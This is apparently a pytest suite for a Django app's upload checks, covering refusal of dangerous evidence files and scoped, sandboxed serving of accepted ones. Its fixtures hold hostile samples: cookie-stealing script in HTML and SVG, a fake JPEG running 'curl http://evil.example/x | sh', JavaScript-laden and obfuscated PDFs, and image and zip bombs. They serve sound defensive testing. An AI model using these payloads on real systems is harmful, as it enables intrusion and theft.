"""Uploads are judged by their bytes, stored under generated names no URL serves, and delivered only by
scoped views as attachments (inline for images and PDF) with nosniff and a sandboxing CSP."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import Image

from enforcement.core.models import AuditEvent
from enforcement.core.rules.uploads import UploadRefused
from enforcement.core.services import uploads
from training.models import ProfessionalQualification

pytestmark = pytest.mark.django_db


def jpeg_bytes(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


GOOD_PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n"


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width``×``height`` pixels (a decompression bomb's first bytes)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
    )


def zip_bomb_xlsx() -> bytes:
    book = io.BytesIO()
    Workbook().save(book)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(book.getvalue())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        dst.writestr("xl/media/filler.bin", b"\0" * (20 * 1024 * 1024))
    return out.getvalue()


BAD_FILES = [
    (
        "page.html",
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        "text/html",
        "不允许上传网页、SVG 或脚本文件（可能在浏览器中执行代码）",
    ),
    (
        "logo.svg",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "image/svg+xml",
        "不允许上传网页、SVG 或脚本文件（可能在浏览器中执行代码）",
    ),
    (
        "photo.jpg",
        b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
        "image/jpeg",
        "不允许上传网页、SVG 或脚本文件（可能在浏览器中执行代码）",
    ),
    (
        "scan.pdf",
        GOOD_PDF + b"2 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n",
        "application/pdf",
        "PDF 含有可执行内容（JavaScript），请另存为不含脚本的 PDF 后上传",
    ),
    (
        "hidden.pdf",
        GOOD_PDF + b"2 0 obj << /OpenAction << /S /J#61vaScript /JS (x) >> >> endobj\n",
        "application/pdf",
        "PDF 含有可执行内容（JavaScript），请另存为不含脚本的 PDF 后上传",
    ),
    (
        "wide.png",
        png_header_only(10_000, 8_000),
        "image/png",
        "图片像素过大，请压缩到 6000 万像素以内后上传",
    ),
    (
        "huge.png",
        png_header_only(100_000, 100_000),
        "image/png",
        "图片像素过大，请压缩到 6000 万像素以内后上传",
    ),
    (
        "sheet.xlsx",
        zip_bomb_xlsx(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "文件内容为 xlsx 格式，此处只接受：图片、PDF",
    ),
]


def add_qualification(client, personas, upload):
    return client.post(
        f"/training/officers/{personas.reviewer.pk}/qualifications/add/",
        {"kind": "legal", "certificate_no": "A2019", "obtained_on": "2019-12-20", "evidence": upload},
    )


@pytest.mark.parametrize("name,content,content_type,reason", BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_bad_evidence_is_refused_with_the_reason_and_nothing_saved(
    client, personas, settings, tmp_path, name, content, content_type, reason
):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(personas.cityadmin)
    events = AuditEvent.objects.count()
    response = add_qualification(client, personas, SimpleUploadedFile(name, content, content_type))
    assert response.status_code == 400
    assert response.context["form"].errors["evidence"] == [reason]
    assert ProfessionalQualification.objects.count() == 0
    assert AuditEvent.objects.count() == events
    assert list(tmp_path.iterdir()) == []


def test_oversized_photo_is_refused_before_it_is_read(client, personas, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(personas.cityadmin)
    photo = jpeg_bytes() + b"\0" * (10 * 1024 * 1024)
    response = add_qualification(client, personas, SimpleUploadedFile("big.jpg", photo, "image/jpeg"))
    assert response.status_code == 400
    assert response.context["form"].errors["evidence"] == [
        "文件过大（10.0 MB），职业资格证明材料不得超过 10 MB"
    ]
    assert ProfessionalQualification.objects.count() == 0


def test_zip_bomb_office_document_is_refused_for_case_evidence():
    with pytest.raises(UploadRefused) as refused:
        uploads.check_upload(io.BytesIO(zip_bomb_xlsx()), uploads.CASE_EVIDENCE)
    assert refused.value.fields == {"file": ["Office 文档解压后体积异常（疑似压缩炸弹），已拒收"]}


def test_office_audio_and_video_pass_the_case_evidence_policy():
    book = io.BytesIO()
    Workbook().save(book)
    checked = uploads.check_upload(io.BytesIO(book.getvalue()), uploads.CASE_EVIDENCE)
    assert (checked.detected.kind, checked.detected.extension) == ("office", "xlsx")
    mp3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" * 64
    assert uploads.check_upload(io.BytesIO(mp3), uploads.CASE_EVIDENCE).detected.kind == "audio"
    with pytest.raises(UploadRefused):
        uploads.check_upload(io.BytesIO(mp3), uploads.INSPECTION_PHOTO)


@pytest.mark.parametrize(
    "name,content,disposition,mime",
    [
        ("证书.jpg", jpeg_bytes(), "inline", "image/jpeg"),
        ("legal.pdf", GOOD_PDF, "inline", "application/pdf"),
    ],
)
def test_good_photo_and_pdf_are_stored_under_generated_names_and_served_only_by_scope(
    client, personas, settings, tmp_path, name, content, disposition, mime
):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(personas.cityadmin)
    assert (
        add_qualification(client, personas, SimpleUploadedFile(name, content, "text/plain")).status_code
        == 302
    )
    q = ProfessionalQualification.objects.get()
    stored = q.evidence.name.rsplit("/", 1)[-1]
    assert stored != name and len(stored.split(".")[0]) == 32
    assert stored.endswith("." + mime.rsplit("/", 1)[-1].replace("jpeg", "jpg"))
    assert client.get(f"/media/{q.evidence.name}").status_code == 404  # MEDIA_ROOT is served by no URL
    url = f"/training/qualifications/{q.pk}/evidence/"
    for who, status in [("reviewer", 200), ("head", 200), ("officer1", 404), ("officer_other", 404)]:
        client.force_login(getattr(personas, who))
        response = client.get(url)
        assert response.status_code == status, who
        if status == 200:
            assert b"".join(response.streaming_content) == content
            assert response["Content-Type"] == mime
            assert response["Content-Disposition"].startswith(disposition)
            assert response["X-Content-Type-Options"] == "nosniff"
            assert response["Content-Security-Policy"] == uploads.SANDBOX_CSP


def test_other_kinds_are_served_as_attachments(tmp_path, settings, personas):
    from django.core.files.storage import default_storage

    settings.MEDIA_ROOT = tmp_path
    book = io.BytesIO()
    Workbook().save(book)
    checked = uploads.check_upload(io.BytesIO(book.getvalue()), uploads.CASE_EVIDENCE)
    name = default_storage.save("evidence/" + uploads.stored_file(checked).name, uploads.stored_file(checked))
    q = ProfessionalQualification(evidence=name)
    response = uploads.download_response(q.evidence)
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
